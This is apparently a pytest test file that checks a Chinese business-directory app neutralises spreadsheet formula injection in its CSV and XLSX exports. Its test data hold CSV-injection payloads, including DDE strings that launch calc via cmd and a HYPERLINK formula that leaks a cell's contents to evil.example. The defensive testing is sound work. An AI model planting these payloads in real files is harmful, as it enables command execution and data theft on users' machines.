"""Formula injection (#13.2): names such as ``=HYPERLINK(...)`` or ``+cmd|' /C calc'!A0``
are imported as text and come out of every CSV and XLSX we write as text, never as a
formula: prefixed with an apostrophe (OWASP), XLSX text as string cells. The exports still
import back unchanged."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

import shuangsuiji
from shuangsuiji.models.directories import Target
from shuangsuiji.services import exports, publication, statistics
from shuangsuiji.services.imports import import_file
from shuangsuiji.tabular import read_table, write_table
from shuangsuiji.tabular.cells import FORMULA_TRIGGERS, neutralise, restore
from tests.directories.samples import TARGET_HEADINGS_ZH, csv_bytes, target_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: As stored: the import trims surrounding white space (the tab and CR ones become "=1+1").
STORED = {h.strip() for h in HOSTILE}


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    workbook = load_workbook(io.BytesIO(data))  # not read-only: it keeps each cell's type
    return [(c.value, c.data_type) for ws in workbook.worksheets for row in ws.iter_rows()
            for c in row if c.value is not None]


def _assert_inert_csv(data: bytes) -> None:
    for cell in _csv_cells(data):
        assert not cell.startswith(FORMULA_TRIGGERS), cell


def _assert_inert_xlsx(data: bytes) -> None:
    for value, kind in _xlsx_cells(data):
        assert kind != "f", value
        if isinstance(value, str):
            assert not value.startswith(FORMULA_TRIGGERS), value


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_and_restore_undoes(value: str) -> None:
    safe = neutralise(value)
    assert safe == "'" + value
    assert restore(safe) == value
    assert neutralise("重庆渝中精密机械有限公司") == "重庆渝中精密机械有限公司"
    assert neutralise(-5) == -5  # a number is not text a spreadsheet would evaluate


@pytest.fixture
def hostile_directory(cq: Session, tenant_tree: dict[str, int]) -> Session:
    rows = target_rows(len(HOSTILE))
    for row, name in zip(rows, HOSTILE, strict=True):
        row[1] = name
    rows[0][3] = "=1+1"  # the industry column too
    import_file(cq, tenant_tree["chongqing"], "targets",
                csv_bytes(TARGET_HEADINGS_ZH, rows), "hostile.csv")
    cq.commit()
    names = set(cq.scalars(select(Target.name)))
    assert names == STORED  # imported as the text it is
    return cq


@pytest.mark.parametrize("kind", exports.EXPORT_KINDS)
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_directory_export_is_inert(hostile_directory: Session, kind: str,
                                         suffix: str) -> None:
    data = exports.export_file(hostile_directory, kind, f"out{suffix}")
    if suffix == ".csv":
        _assert_inert_csv(data)
    else:
        _assert_inert_xlsx(data)
    if kind == "targets":
        cells = _csv_cells(data) if suffix == ".csv" else [v for v, _ in _xlsx_cells(data)]
        for name in STORED:
            assert "'" + name in cells  # shown as the text, not dropped


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_neutralised_export_imports_back_unchanged(hostile_directory: Session,
                                                     suffix: str) -> None:
    data = exports.export_file(hostile_directory, "targets", f"out{suffix}")
    table = read_table(data, f"again{suffix}")
    names = {cells[1] for _, cells in table.rows}
    assert names == STORED


def test_statistics_xlsx_is_inert_and_numbers_stay_numbers() -> None:
    row = statistics.YearStats(**{
        name: ("=HYPERLINK(\"http://evil.example\")" if name == "tenant" else 3)
        for name in statistics.YearStats.__dataclass_fields__})
    data = statistics.to_xlsx([row])
    _assert_inert_xlsx(data)
    kinds = {type(v) for v, _ in _xlsx_cells(data)}
    assert int in kinds  # counts are numbers a spreadsheet can sum


def test_public_results_csv_is_inert(monkeypatch: pytest.MonkeyPatch) -> None:
    hostile_rows = [{field: HOSTILE[i % len(HOSTILE)] for i, field in
                     enumerate(publication.EXPORT_FIELDS)}]
    monkeypatch.setattr(publication, "export_json", lambda *_a, **_k: hostile_rows)
    data = publication.export_csv(None)  # type: ignore[arg-type]
    _assert_inert_csv(data.encode("utf-8"))
    assert "'" + HOSTILE[0] in _csv_cells(data.encode("utf-8"))


def test_write_table_is_inert() -> None:
    rows = [[v, v] for v in HOSTILE]
    _assert_inert_csv(write_table("x.csv", ["=a", "b"], rows))
    _assert_inert_xlsx(write_table("x.xlsx", ["=a", "b"], rows))


WRITER = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl import Workbook|Workbook\(")


def test_every_writer_in_the_code_goes_through_the_helper() -> None:
    """A new CSV or XLSX writer must use shuangsuiji.tabular.cells: this walks the source."""
    root = Path(shuangsuiji.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if WRITER.search(text) and "tabular.cells" not in text and path.name != "cells.py":
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
